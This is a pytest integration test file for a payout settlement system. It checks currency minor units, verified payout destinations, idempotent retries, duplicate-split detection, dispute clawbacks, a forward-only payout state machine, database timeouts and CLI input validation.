"""Issue 12, money: every currency in its own minor units, payouts only to verified connected
accounts copied at instruction, ambiguous answers are not refusals, no double pay while the old
platform still writes, "due" trusts the payment (and lost disputes are clawed back), payouts only
move forward, and a run never waits forever. Real PostgreSQL; the payment provider at the HTTP
layer (``FakeStripe`` over ``httpx.MockTransport``)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time

import psycopg
import pytest

from csl import settlement
from csl.errors import ConfigError
from csl.maintenance import indexes
from csl.settlement import GateFailed, Params
from csl.settlement import run as settlement_run

from ...conftest import REPO
from .test_settlement import API_KEY, FakeStripe, connect, payout_rows, refundable_licence, sell, sender_for, stripe_of


def paid_contributor(conn) -> str:
    """A contributor with a verified, enabled payout account."""
    return conn.execute("SELECT contributor_id::text FROM csl_ops.payout_accounts WHERE verified_at IS NOT NULL "
                        "AND disabled_at IS NULL ORDER BY contributor_id LIMIT 1").fetchone()[0]


def account_of(conn, contributor: str) -> str:
    return conn.execute("SELECT account_id FROM csl_ops.payout_accounts WHERE contributor_id = %s",
                        (contributor,)).fetchone()[0]


def findings_of(conn, run_key: str) -> list[tuple]:
    return conn.execute("SELECT f.kind, f.contributor_id::text, f.currency, f.blocking FROM csl_ops.settlement_findings f "
                        "JOIN csl_ops.settlement_runs r ON r.id = f.run_id WHERE r.run_key = %s ORDER BY 1, 2, 3",
                        (run_key,)).fetchall()


# -- 1. currency exponents ----------------------------------------------------------------------
def test_yen_settle_in_yen_and_dinars_in_fils_end_to_end(platform_db):
    """¥1,000 is 1,000 minor units (never 100,000), 12.345 KWD is 12,345 fils (never 1,234.5), in
    the ledger, in the platform's revenue_splits floats and in the transfer's amount."""
    with connect(platform_db) as conn:
        settlement.settle(conn, Params(minimum_payout_cents=10**12), run_key="run-0")  # everything else: carried
        contributor = paid_contributor(conn)
        yen, dinar = sell(conn, contributor, "jpy", 1000.0), sell(conn, contributor, "kwd", 12.345)
        outcome = settlement.settle(conn, Params(minimum_payout_cents=1), run_key="run-1")
        assert outcome.by_currency["jpy"] == {"licences": 1, "gross_minor": 1000, "contributors_minor": 700,
                                                 "platform_minor": 300}
        assert outcome.by_currency["kwd"] == {"licences": 1, "gross_minor": 12345, "contributors_minor": 8642,
                                                 "platform_minor": 3703}  # 70 % of 12,345 fils, half up
        splits = dict(conn.execute("SELECT license_id::text, amount FROM revenue_splits WHERE license_id = ANY(%s)",
                                   ([yen, dinar],)).fetchall())
        assert splits == {yen: 700.0, dinar: 8.642}
        mine = {p["currency"]: p for p in outcome.payouts if p["contributor_id"] == contributor}
        assert mine["jpy"]["amount_minor"] == 700 and mine["kwd"]["amount_minor"] == 8642
        stripe = stripe_of(conn)
        sender_for(stripe).send(conn)
        sent = {(p["currency"], p["amount"]) for p in stripe.posts() if p["destination"] == account_of(conn, contributor)}
        assert {("jpy", "700"), ("kwd", "8642")} <= sent


def test_the_unit_conversions_are_inlined_into_the_queries_not_called_per_row(platform_db):
    """due.sql converts every due licence three times: a function call per row was 38 of a run's
    200 s at a million licences. Inlined, the conversion is plain arithmetic in the plan; NULLs
    and an exponent outside ISO 4217's still give NULL."""
    with connect(platform_db) as conn:
        plan = "\n".join(r[0] for r in conn.execute(
            "EXPLAIN (VERBOSE) SELECT csl_ops.minor_units(price, c.exponent), "
            "csl_ops.major_units(length(l.id::text)::bigint, c.exponent) FROM licenses l "
            "CROSS JOIN csl_ops.currencies c").fetchall())
        nulls = conn.execute("SELECT csl_ops.minor_units(NULL, 2), csl_ops.minor_units(1.5, NULL), "
                             "csl_ops.minor_units(1.5, 7), csl_ops.major_units(NULL, 2), "
                             "csl_ops.major_units(150, 9), csl_ops.minor_units(1.5, 2)").fetchone()
    assert "minor_units" not in plan and "major_units" not in plan, plan
    assert nulls == (None, None, None, None, None, 150)


def test_a_currency_without_an_exponent_or_an_amount_below_its_minor_unit_is_held(platform_db):
    with connect(platform_db) as conn:
        contributor = paid_contributor(conn)
        unknown = sell(conn, contributor, "xyz", 10.0)
        half_yen = sell(conn, contributor, "jpy", 1000.5)
        tenth_fils = sell(conn, contributor, "kwd", 1.2345)
        with pytest.raises(GateFailed) as caught:
            settlement.settle(conn, Params(), run_key="run-1")
        found = {(f["kind"], f["license_id"]) for f in caught.value.outcome.findings}
        assert found == {("unsupported_currency", unknown), ("sub_unit_price", half_yen),
                         ("sub_unit_price", tenth_fils)}
        assert conn.execute("SELECT count(*) FROM csl_ops.postings").fetchone()[0] == 0


# -- 2. payout destinations ----------------------------------------------------------------------
def test_payouts_pay_the_verified_account_copied_when_instructed_never_a_customer_id(platform_db):
    with connect(platform_db) as conn:
        outcome = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1")
        accounts = dict(conn.execute("SELECT contributor_id::text, account_id FROM csl_ops.payout_accounts "
                                     "WHERE verified_at IS NOT NULL AND disabled_at IS NULL").fetchall())
        assert outcome.payouts and all(p["destination"] == accounts[p["contributor_id"]] for p in outcome.payouts)
        # contributors without a verified account: held, with a finding that does not fail the gate
        unpaid = dict(conn.execute("SELECT c, coalesce(pa.account_id, 'none') FROM (SELECT DISTINCT contributor_id AS c "
                                   "FROM csl_ops.ledger_accounts WHERE kind = 'contributor_payable') x "
                                   "LEFT JOIN csl_ops.payout_accounts pa ON pa.contributor_id = x.c "
                                   "WHERE pa.verified_at IS NULL").fetchall())
        holds = {(h["contributor_id"], h["currency"]): h["reason"] for h in outcome.payout_holds}
        assert holds and {c for c, _ in holds} <= {str(c) for c in unpaid}
        assert set(holds.values()) == {"no_payout_account", "payout_account_unverified"}
        assert {(k, c, cur, b) for k, c, cur, b in findings_of(conn, "run-1")} == \
            {(reason, c, cur, False) for (c, cur), reason in holds.items()}
        balances = settlement.balances(conn)
        assert all(balances[k] == h["balance_minor"] for h in outcome.payout_holds
                   for k in [(h["contributor_id"], h["currency"])])
        # the platform changes a contributor's account after the payout was instructed: the payout
        # still pays the account it was instructed to (recorded, never looked up again)
        moved = outcome.payouts[0]
        conn.execute("UPDATE csl_ops.payout_accounts SET account_id = 'acct_changedafterwards' WHERE contributor_id = %s",
                     (moved["contributor_id"],))
        stripe = FakeStripe(accounts=set(accounts.values()))  # the provider knows the accounts as instructed
        result = sender_for(stripe).send(conn)
        assert result.confirmed == len(outcome.payouts) and result.failed == 0
        posted = {p["idempotency_key"]: p["destination"] for p in stripe.posts()}
        assert posted == {p["idempotency_key"]: p["destination"] for p in outcome.payouts}
        assert not any(d.startswith(("cus_", "acct_csl_")) for d in posted.values())
        # once the platform verifies a held contributor's account, the next run pays them, even
        # though nothing new was posted (the scan is not skipped after a run that held balances)
        (held_contributor, held_currency), _ = next(iter(holds.items()))
        conn.execute("INSERT INTO csl_ops.payout_accounts (contributor_id, account_id, verified_at) "
                     "VALUES (%s, 'acct_verifiednow', now()) ON CONFLICT (contributor_id) DO UPDATE "
                     "SET account_id = 'acct_verifiednow', verified_at = now()", (held_contributor,))
        again = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-2")
        assert {(p["contributor_id"], p["destination"]) for p in again.payouts} >= {(held_contributor, "acct_verifiednow")}
        assert (held_contributor, held_currency) not in {(h["contributor_id"], h["currency"]) for h in again.payout_holds}


def test_the_provider_refuses_a_destination_it_does_not_know(platform_db):
    with connect(platform_db) as conn:
        payouts = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1").payouts
        unknown = payouts[0]
        stripe = FakeStripe(accounts=verified_accounts_but(conn, unknown["destination"]))
        result = sender_for(stripe).send(conn)
        to_it = [p for p in payouts if p["destination"] == unknown["destination"]]  # one per currency
        assert result.failed == len(to_it) and result.confirmed == len(payouts) - len(to_it)
        assert all("No such destination" in e["error"] for e in result.errors)
        for p in to_it:  # refused: the money is back on the balance, for the next run
            assert payout_rows(conn)[(p["contributor_id"], p["currency"])][0] == "failed"
            assert settlement.balances(conn)[(p["contributor_id"], p["currency"])] == p["amount_minor"]


def verified_accounts_but(conn, excluded: str) -> set[str]:
    return {r[0] for r in conn.execute("SELECT account_id FROM csl_ops.payout_accounts WHERE verified_at IS NOT NULL "
                                       "AND account_id <> %s", (excluded,)).fetchall()}


def forget_destination(conn, key: str) -> None:
    """A payout as instructed before destinations were recorded (migration 0011)."""
    conn.execute("ALTER TABLE csl_ops.payouts DISABLE TRIGGER payouts_forward_only")
    conn.execute("UPDATE csl_ops.payouts SET destination = NULL WHERE idempotency_key = %s", (key,))
    conn.execute("ALTER TABLE csl_ops.payouts ENABLE TRIGGER payouts_forward_only")


def test_payouts_from_before_destinations_were_recorded_are_never_sent_to_a_guess(platform_db):
    with connect(platform_db) as conn:
        payouts = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1").payouts
        never_sent, already_sent = payouts[0], payouts[1]
        forget_destination(conn, never_sent["idempotency_key"])
        forget_destination(conn, already_sent["idempotency_key"])
        conn.execute("UPDATE csl_ops.payouts SET status = 'sent', attempts = 1, first_sent_at = now() "
                     "WHERE idempotency_key = %s", (already_sent["idempotency_key"],))
        stripe = stripe_of(conn)
        result = sender_for(stripe).send(conn)
        sent_keys = {p["idempotency_key"] for p in stripe.posts()}
        assert never_sent["idempotency_key"] not in sent_keys and already_sent["idempotency_key"] not in sent_keys
        rows = payout_rows(conn)
        assert rows[(never_sent["contributor_id"], never_sent["currency"])][0] == "failed"
        assert rows[(already_sent["contributor_id"], already_sent["currency"])][0] == "needs_review"
        assert result.failed == 1 and result.needs_review == 1
        # the released one is instructed again, to the contributor's verified account
        again = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-2").payouts
        anew = [p for p in again if (p["contributor_id"], p["currency"]) ==
                (never_sent["contributor_id"], never_sent["currency"])]
        assert [(p["amount_minor"], p["destination"]) for p in anew] == \
            [(never_sent["amount_minor"], account_of(conn, never_sent["contributor_id"]))]


# -- 3. ambiguous answers ------------------------------------------------------------------------
def test_ambiguous_answers_are_unknown_outcomes_resent_with_the_same_key_never_paid_twice(platform_db):
    with connect(platform_db) as conn:
        payouts = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1").payouts
        assert len(payouts) >= 5
        keys = [p["idempotency_key"] for p in payouts[:4]]
        scripted = {keys[0]: (408, json.dumps({"error": {"type": "api_error", "message": "Request timeout"}})),
                    keys[1]: (404, "<html><body>404 Not Found</body></html>"),   # a proxy, not the provider
                    keys[2]: (400, "Bad Request"),                                # no provider error body
                    keys[3]: (502, "Bad Gateway")}
        stripe = stripe_of(conn, scripted=scripted, scripted_made=keys)  # all four were in fact processed
        sender = sender_for(stripe)
        result = sender.send(conn)
        assert result.failed == 0 and result.retry_later == 4
        rows = payout_rows(conn)
        assert {rows[(p["contributor_id"], p["currency"])][0] for p in payouts[:4]} == {"sent"}
        for p in payouts[:4]:  # the money was not returned to the balance: it may have left
            assert settlement.balances(conn)[(p["contributor_id"], p["currency"])] == 0
        stripe.scripted.clear()
        assert sender.send(conn).confirmed == 4  # the same keys again: the provider's saved transfers
        for key in keys:
            assert len([t for t in stripe.transfers if t["metadata"]["idempotency_key"] == key]) == 1
        assert settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-2").payouts == []


def test_a_bad_api_key_stops_the_send_before_any_payout_is_touched(platform_db):
    with connect(platform_db) as conn:
        payouts = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1").payouts
        stripe = stripe_of(conn)
        with pytest.raises(settlement.PayoutConfigError, match="401"):
            sender_for(stripe, api_key="sk_test_revoked").send(conn)
        assert stripe.posts() == []
        assert conn.execute("SELECT count(*), sum(attempts) FROM csl_ops.payouts WHERE status = 'instructed'"
                            ).fetchone() == (len(payouts), 0)
        # revoked in the middle of a send: it stops there; the payout being sent stays 'sent' (not processed)
        second = payouts[1]["idempotency_key"]
        stripe.scripted = {second: (401, json.dumps({"error": {"type": "invalid_request_error",
                                                               "message": "Expired API Key provided"}}))}
        with pytest.raises(settlement.PayoutConfigError) as caught:
            sender_for(stripe).send(conn)
        assert caught.value.counts["confirmed"] == 1
        statuses = [s for s, in conn.execute("SELECT status FROM csl_ops.payouts ORDER BY id").fetchall()]
        assert statuses[:2] == ["confirmed", "sent"] and set(statuses[2:]) == {"instructed"}
        assert settlement.balances(conn)[(payouts[1]["contributor_id"], payouts[1]["currency"])] == 0


def test_http_payment_endpoints_only_on_loopback(platform_db, stack_env):
    for good in ("https://api.stripe.com", "http://127.0.0.1:8080", "http://localhost:9", "http://[::1]:1"):
        settlement.PayoutSender(endpoint=good, api_key=API_KEY).close()
    for bad in ("http://api.stripe.com", "http://10.0.0.7", "ftp://api.stripe.com", "https://sk_live_x@api.stripe.com",
                "https://api.stripe.com/?key=sk_live_x", "api.stripe.com", ""):
        with pytest.raises(ConfigError, match="payout endpoint"):
            settlement.PayoutSender(endpoint=bad, api_key=API_KEY)
    env = {**os.environ, **stack_env, "CSL_ENV_FILE": os.devnull, "DATABASE_URL": platform_db,
           "CSL_PAYOUT_ENDPOINT": "http://payments.example.com", "CSL_PAYOUT_API_KEY": API_KEY}
    done = subprocess.run([sys.executable, "-m", "csl", "settlement", "send-payouts"], capture_output=True, text=True,
                          env=env, timeout=120, check=False)
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "CSL_PAYOUT_ENDPOINT" in done.stderr
    assert "loopback" in done.stderr


def test_the_lookup_matches_the_idempotency_key_not_a_payout_id_another_environment_shares(platform_db):
    with connect(platform_db) as conn:
        payout = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1").payouts[0]
        stripe = stripe_of(conn)
        conn.execute("UPDATE csl_ops.payouts SET status = 'sent', attempts = 1, first_sent_at = now() - interval '25 hours' "
                     "WHERE idempotency_key = %s", (payout["idempotency_key"],))
        payout_id, run_id = conn.execute("SELECT id, run_id FROM csl_ops.payouts WHERE idempotency_key = %s",
                                         (payout["idempotency_key"],)).fetchone()
        # staging's payout with the same local id, group and destination, under another key
        stripe.transfers.append({"id": "tr_staging1", "object": "transfer", "amount": payout["amount_minor"],
                                 "currency": payout["currency"], "destination": payout["destination"],
                                 "transfer_group": f"csl-settlement-{run_id}", "reversed": False,
                                 "metadata": {"payout_id": str(payout_id), "idempotency_key": "csl-payout-staging"}})
        result = sender_for(stripe).send(conn)
        assert (result.looked_up, result.needs_review) == (1, 1)  # the rest were sent and confirmed
        assert conn.execute("SELECT status, transfer_id FROM csl_ops.payouts WHERE id = %s",
                            (payout_id,)).fetchone() == ("needs_review", None)


# -- 4. the old platform still writes -------------------------------------------------------------
def licence_of(conn, payout: dict) -> str:
    """One licence the payout covers (a contributor has one payout per currency)."""
    return conn.execute("SELECT pl.license_id::text FROM csl_ops.payout_licences pl JOIN csl_ops.payouts po "
                        "ON po.id = pl.payout_id WHERE po.idempotency_key = %s ORDER BY 1 LIMIT 1",
                        (payout["idempotency_key"],)).fetchone()[0]


def test_a_licence_the_platform_marks_paid_after_settlement_sends_its_payout_to_review(platform_db):
    with connect(platform_db) as conn:
        conn.execute("UPDATE revenue_splits SET status = 'pending', payment_date = NULL")
        payouts = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1").payouts
        victim = payouts[0]
        licence = licence_of(conn, victim)
        conn.execute("UPDATE revenue_splits SET status = 'paid', payment_date = now() WHERE license_id = %s "
                     "AND contributor_id = %s", (licence, victim["contributor_id"]))  # the old platform paid it
        stripe = stripe_of(conn)
        result = sender_for(stripe).send(conn)
        assert victim["idempotency_key"] not in {p["idempotency_key"] for p in stripe.posts()}
        assert result.needs_review == 1 and result.confirmed == len(payouts) - 1
        status, error = conn.execute("SELECT status, error FROM csl_ops.payouts WHERE idempotency_key = %s",
                                     (victim["idempotency_key"],)).fetchone()
        assert status == "needs_review" and "marked paid outside this ledger" in error


def test_a_duplicate_split_is_found_by_the_nightly_audit_and_holds_that_contributors_payouts(platform_db):
    with connect(platform_db) as conn:
        payouts = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1").payouts
        victim = payouts[0]
        licence = licence_of(conn, victim)
        # the old platform inserted its own split for the licence while run-1 was under way
        conn.execute("INSERT INTO revenue_splits (license_id, contributor_id, amount, percentage, status) "
                     "SELECT license_id, contributor_id, amount, percentage, 'pending' FROM revenue_splits "
                     "WHERE license_id = %s AND contributor_id = %s", (licence, victim["contributor_id"]))
        stripe = stripe_of(conn)
        sender_for(stripe).send(conn)  # its instructed payout is not sent
        assert victim["idempotency_key"] not in {p["idempotency_key"] for p in stripe.posts()}
        assert payout_rows(conn)[(victim["contributor_id"], victim["currency"])][0] == "needs_review"
        sell(conn, victim["contributor_id"], victim["currency"], 99.0)  # more money for them, and for another
        other = next(p for p in payouts[1:] if p["contributor_id"] != victim["contributor_id"])
        sell(conn, other["contributor_id"], other["currency"], 99.0)
        outcome = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-2")
        assert outcome.status == "committed"  # held, not blocked: everyone else is paid
        assert (victim["contributor_id"], victim["currency"], "duplicate_splits") in \
            {(h["contributor_id"], h["currency"], h["reason"]) for h in outcome.payout_holds}
        assert victim["contributor_id"] not in {p["contributor_id"] for p in outcome.payouts}
        assert other["contributor_id"] in {p["contributor_id"] for p in outcome.payouts}
        detail = conn.execute("SELECT detail FROM csl_ops.settlement_findings f JOIN csl_ops.settlement_runs r "
                              "ON r.id = f.run_id WHERE r.run_key = 'run-2' AND f.kind = 'duplicate_splits' "
                              "AND NOT f.blocking").fetchone()[0]
        assert detail["licences_with_duplicates"] == 1 and detail["sample"] == [licence]


def test_the_unique_split_key_waits_for_the_duplicates_then_makes_the_race_a_clean_error(platform_db, monkeypatch):
    key = next(d for d in indexes.load_catalog() if d.name == "revenue_splits_license_contributor_key")
    with connect(platform_db) as conn:
        settlement.settle(conn, Params(minimum_payout_cents=10**9), run_key="run-1")
        licence, contributor = conn.execute("SELECT license_id, contributor_id FROM revenue_splits LIMIT 1").fetchone()
        conn.execute("INSERT INTO revenue_splits (license_id, contributor_id, amount, percentage) "
                     "SELECT license_id, contributor_id, amount, percentage FROM revenue_splits "
                     "WHERE license_id = %s AND contributor_id = %s", (licence, contributor))
        plan = indexes.make_plan(indexes.diff(conn, [key]), [key])
        assert [(i.action, i.statement) for i in plan if i.name == key.name] == [("blocked", None)]
        assert "1 duplicate key group" in plan[0].reason
        conn.execute("DELETE FROM revenue_splits WHERE id = (SELECT max(id::text)::uuid FROM revenue_splits "
                     "WHERE license_id = %s AND contributor_id = %s)", (licence, contributor))
        plan = indexes.make_plan(indexes.diff(conn, [key]), [key])
        assert [i.action for i in plan if i.name == key.name] == ["build"]
        result = indexes.build_index(lambda: psycopg.connect(platform_db, autocommit=True), plan[0], key,
                                     lock_timeout_ms=2000, statement_timeout_s=60, max_lock_retries=1)
        assert result.status == "success" and result.valid
        # the race: the old platform writes a split for a licence the run is about to write
        due = sell(conn, paid_contributor(conn), "usd", 42.0)
        real_load = settlement_run.load

        def platform_writes_meanwhile(name):
            if name == "settlement/post_sales.sql":
                with connect(platform_db) as platform:
                    platform.execute("INSERT INTO revenue_splits (license_id, contributor_id, amount, percentage) "
                                     "SELECT l.id, s.contributor_id, 29.4, 70 FROM licenses l "
                                     "JOIN audio_samples s ON s.id = l.audio_sample_id WHERE l.id = %s", (due,))
            return real_load(name)

        monkeypatch.setattr(settlement_run, "load", platform_writes_meanwhile)
        postings = conn.execute("SELECT count(*) FROM csl_ops.postings").fetchone()[0]
        with pytest.raises(settlement.SettlementRace, match="nothing was committed"):
            settlement.settle(conn, Params(), run_key="run-2")
        assert conn.execute("SELECT count(*) FROM csl_ops.postings").fetchone()[0] == postings
        monkeypatch.setattr(settlement_run, "load", real_load)
        outcome = settlement.settle(conn, Params(), run_key="run-2")  # the retry reuses the platform's row
        assert outcome.licences == 1 and outcome.splits_reused == 1


# -- 5. what "due" trusts -----------------------------------------------------------------------
def test_a_completed_licence_whose_payment_did_not_arrive_is_held(platform_db):
    with connect(platform_db) as conn:
        contributor = paid_contributor(conn)
        processing, short, missing = (sell(conn, contributor, "usd", 30.0) for _ in range(3))
        conn.execute("UPDATE payment_intents SET status = 'processing' WHERE id = "
                     "(SELECT payment_intent_id FROM licenses WHERE id = %s)", (processing,))
        conn.execute("UPDATE payment_intents SET amount = 29.99 WHERE id = "
                     "(SELECT payment_intent_id FROM licenses WHERE id = %s)", (short,))
        conn.execute("UPDATE licenses SET payment_intent_id = 'pi_never_created' WHERE id = %s", (missing,))
        with pytest.raises(GateFailed) as caught:
            settlement.settle(conn, Params(), run_key="run-1")
        assert {(f["kind"], f["license_id"]) for f in caught.value.outcome.findings} == {
            ("payment_not_succeeded", processing), ("payment_short", short), ("no_payment_intent", missing)}
        assert conn.execute("SELECT count(*) FROM csl_ops.settled_licences").fetchone()[0] == 0


def test_lost_disputes_are_clawed_back_like_refunds_won_ones_are_not(platform_db):
    with connect(platform_db) as conn:
        settlement.settle(conn, Params(minimum_payout_cents=1), run_key="run-1")
        lost_licence, lost_pi, price, currency = refundable_licence(conn, generation=True)
        charge = conn.execute("SELECT metadata->>'latest_charge' FROM payment_intents WHERE id = %s",
                              (lost_pi,)).fetchone()[0]
        assert charge and charge.startswith("ch_")
        _, won_pi, won_price, won_currency = refundable_licence(conn, generation=False)
        conn.execute("INSERT INTO disputes (id, charge_id, amount, currency, reason, status) VALUES "
                     "('dp_lost1', %s, %s, %s, 'fraudulent', 'lost'), ('dp_won1', %s, %s, %s, 'fraudulent', 'won')",
                     (charge, price, currency, won_pi, won_price, won_currency))
        parts = {c: a for c, a in conn.execute(
            "SELECT a.contributor_id::text, -p.amount_minor FROM csl_ops.postings p JOIN csl_ops.ledger_accounts a "
            "ON a.id = p.account_id WHERE p.license_id = %s AND p.kind = 'sale'", (lost_licence,)).fetchall()}
        outcome = settlement.settle(conn, Params(minimum_payout_cents=1), run_key="run-2")
        assert outcome.clawbacks["disputes"] == 1 and outcome.clawbacks["refunds"] == 0
        clawed = {c: a for c, a in conn.execute(
            "SELECT a.contributor_id::text, p.amount_minor FROM csl_ops.postings p JOIN csl_ops.ledger_accounts a "
            "ON a.id = p.account_id AND a.kind = 'contributor_payable' WHERE p.source_id = 'dp_lost1'").fetchall()}
        assert clawed == parts  # the whole price back: every contributor's part, exactly
        assert conn.execute("SELECT count(*) FROM csl_ops.postings WHERE source_id = 'dp_won1'").fetchone()[0] == 0
        # a lost dispute whose charge no payment intent knows cannot be attributed: held, never ignored
        conn.execute("INSERT INTO disputes (id, charge_id, amount, currency, reason, status) VALUES "
                     "('dp_orphan', 'ch_nobodyknows', 10.0, 'usd', 'fraudulent', 'lost')")
        with pytest.raises(GateFailed) as caught:
            settlement.settle(conn, Params(minimum_payout_cents=1), run_key="run-3")
        assert [(f["kind"], f["detail"]["dispute_id"]) for f in caught.value.outcome.findings] == \
            [("dispute_unmatched", "dp_orphan")]


# -- 6. the payout state machine ---------------------------------------------------------------
def test_payouts_only_move_forward_and_what_they_pay_never_changes(platform_db):
    with connect(platform_db) as conn:
        payouts = settlement.settle(conn, Params(minimum_payout_cents=1000), run_key="run-1").payouts
        first, second = payouts[0]["idempotency_key"], payouts[1]["idempotency_key"]
        refused = psycopg.errors.RestrictViolation
        for change in ("status = 'confirmed'", "amount_minor = amount_minor + 1", "destination = 'acct_elsewhere'",
                       "currency = 'jpy'", "contributor_id = gen_random_uuid()", "idempotency_key = 'other'"):
            with pytest.raises(refused):
                conn.execute(f"UPDATE csl_ops.payouts SET {change} WHERE idempotency_key = %s", (first,))
        stripe = stripe_of(conn, refuse=[second])
        sender_for(stripe).send(conn)  # first confirmed, second refused
        for key, back in ((first, "instructed"), (first, "sent"), (second, "sent"), (second, "confirmed")):
            with pytest.raises(refused, match="not a forward transition"):
                conn.execute("UPDATE csl_ops.payouts SET status = %s WHERE idempotency_key = %s", (back, key))
        assert payout_rows(conn)[(payouts[0]["contributor_id"], payouts[0]["currency"])][0] == "confirmed"


# -- 7. timeouts --------------------------------------------------------------------------------
def test_a_run_has_statement_lock_and_idle_timeouts_and_checks_its_client(platform_db, monkeypatch):
    seen = {}
    real_gate = settlement_run.run_gate

    def gate(conn, values):
        for name in ("statement_timeout", "lock_timeout", "idle_in_transaction_session_timeout",
                     "client_connection_check_interval"):
            seen[name] = conn.execute("SELECT current_setting(%s)", (name,)).fetchone()[0]
        return real_gate(conn, values)

    monkeypatch.setattr(settlement_run, "run_gate", gate)
    with connect(platform_db) as conn:
        settlement.settle(conn, Params(statement_timeout_s=1800, lock_timeout_s=30), run_key="run-1")
        assert seen == {"statement_timeout": "30min", "lock_timeout": "30s",
                        "idle_in_transaction_session_timeout": "10min", "client_connection_check_interval": "2s"}
        assert conn.execute("SELECT current_setting('client_connection_check_interval')").fetchone()[0] == "0"


def test_a_worker_killed_while_its_run_waits_on_a_lock_frees_the_settlement_lock(platform_db):
    """The backend of a SIGKILLed worker ends within seconds even while it waits on a table lock,
    so the retry takes the settlement lock instead of failing as busy."""
    code = ("import sys, psycopg; sys.path.insert(0, 'include'); from csl import settlement;"
            f"conn = psycopg.connect({platform_db!r}, autocommit=True);"
            "settlement.settle(conn, settlement.Params(), run_key='nightly')")
    with connect(platform_db) as blocker, connect(platform_db) as watcher:
        blocker.execute("BEGIN")
        blocker.execute("LOCK TABLE licenses IN ACCESS EXCLUSIVE MODE")  # e.g. a migration of the platform
        worker = subprocess.Popen([sys.executable, "-c", code], cwd=REPO)
        waiting = "SELECT count(*) FROM pg_stat_activity WHERE application_name = 'csl-settlement' AND wait_event_type = 'Lock'"
        deadline = time.monotonic() + 60
        while not watcher.execute(waiting).fetchone()[0]:
            assert time.monotonic() < deadline and worker.poll() is None, "the run never waited on the lock"
            time.sleep(0.1)
        os.kill(worker.pid, signal.SIGKILL)
        worker.wait(10)
        deadline = time.monotonic() + 15
        while watcher.execute("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND objid = %s",
                              (settlement.LOCK_KEY & 0xFFFFFFFF,)).fetchone()[0]:
            assert time.monotonic() < deadline, "the dead worker's backend still holds the settlement lock"
            time.sleep(0.2)
        blocker.execute("ROLLBACK")
    with connect(platform_db) as conn:
        assert settlement.settle(conn, Params(lock_wait_s=0), run_key="nightly").status == "committed"


def test_the_in_run_analyze_does_not_queue_behind_an_index_build(platform_db):
    done: dict = {}
    with connect(platform_db) as builder:
        builder.execute("BEGIN")  # what CREATE INDEX CONCURRENTLY holds for its whole duration
        builder.execute("LOCK TABLE revenue_splits IN SHARE UPDATE EXCLUSIVE MODE")

        def run():
            with connect(platform_db) as conn:
                done["outcome"] = settlement.settle(conn, Params(analyze_after_rows=1), run_key="run-1")

        thread = threading.Thread(target=run)
        thread.start()
        thread.join(90)
        stuck = thread.is_alive()
        builder.execute("ROLLBACK")
        thread.join(60)
    assert not stuck, "the run queued behind the index build"
    assert done["outcome"].status == "committed" and done["outcome"].timings_s["analyze_skipped"] is True


def test_reversals_reach_the_settled_licences_through_an_index_whatever_the_statistics(platform_db):
    """The run matches refunds and disputes to the licences it settled minutes earlier in the same
    transaction, before its ANALYZE (or with it skipped): the planner may think the table is empty.
    Without an index on the payment intent, that join compared every reversal with every settled
    licence (over 7 minutes at a million); with one it is a lookup however stale the statistics."""
    with connect(platform_db) as conn:
        settlement.settle(conn, Params(), run_key="run-1")
        conn.execute("BEGIN")
        conn.execute("SET LOCAL enable_seqscan = off")  # a sequential scan remains only where no index serves
        plan = conn.execute("EXPLAIN (FORMAT JSON) " + settlement_run._NEW_REVERSALS).fetchone()[0][0]["Plan"]
        conn.execute("ROLLBACK")

    def scans(node: dict) -> list[str]:
        here = [node["Node Type"]] if node.get("Relation Name") == "settled_licences" else []
        return here + [kind for child in node.get("Plans", []) for kind in scans(child)]

    assert scans(plan) and "Seq Scan" not in scans(plan), json.dumps(plan)


# -- 19. periods are dates, compared as dates; bad CLI input is refused before any work ---------------
def test_periods_are_parsed_into_real_dates_and_compared_as_instants():
    assert Params(period_start="2026-02-28").period_start.isoformat() == "2026-02-28T00:00:00+00:00"
    # 00:30 at +01:00 is 23:30 UTC the day before: before 23:45 UTC, whatever the strings say
    Params(period_start="2026-03-01T00:30:00+01:00", period_end="2026-02-28T23:45:00Z")
    for start, end in (("2026-03-01T00:00:00-05:00", "2026-03-01T03:00:00Z"), ("2026-03-01", "2026-03-01")):
        with pytest.raises(settlement.SettlementParamsError, match="must be before"):
            Params(period_start=start, period_end=end)
    for bad in ("2026-02-30", "2026-1-5", "2026-13-01", "yesterday", "2026-02-28T25:00", "20260228", "2026-02-28 junk"):
        with pytest.raises(settlement.SettlementParamsError, match="period_start"):
            Params(period_start=bad)


def test_the_cli_refuses_bad_values_in_one_line_before_it_takes_the_lock(platform_db, stack_env):
    env = {**os.environ, **stack_env, "CSL_ENV_FILE": os.devnull, "DATABASE_URL": platform_db}
    cases = [(["settlement", "run", "--period-start", "2026-02-30"], "--period-start"),
             (["settlement", "run", "--period-end", "2026-1-5"], "--period-end"),
             (["settlement", "run", "--period-start", "2026-03-01T00:00:00-05:00", "--period-end", "2026-03-01T03:00Z"],
              "period_start"),
             (["settlement", "statement", "--contributor", "not-a-uuid"], "--contributor"),
             (["settlement", "run", "--run-key", "a\nb"], "--run-key"),
             (["seed", "--scale", "demo", "--reset", "--no-objects"], "did not load")]
    with connect(platform_db) as conn:
        conn.execute("DELETE FROM csl_ops.seed_runs")  # as if the platform's own rows were in it
    for argv, named in cases:
        done = subprocess.run([sys.executable, "-m", "csl", *argv], capture_output=True, text=True, env=env, timeout=120, check=False)
        assert done.returncode == 2 and named in done.stderr and done.stderr.count("\n") == 1, (argv, done.stderr)
        assert "Traceback" not in done.stderr
    with connect(platform_db) as conn:
        assert conn.execute("SELECT count(*) FROM csl_ops.settlement_runs").fetchone()[0] == 0
        assert conn.execute("SELECT count(*) FROM licenses").fetchone()[0] > 0  # the reset refused: nothing lost


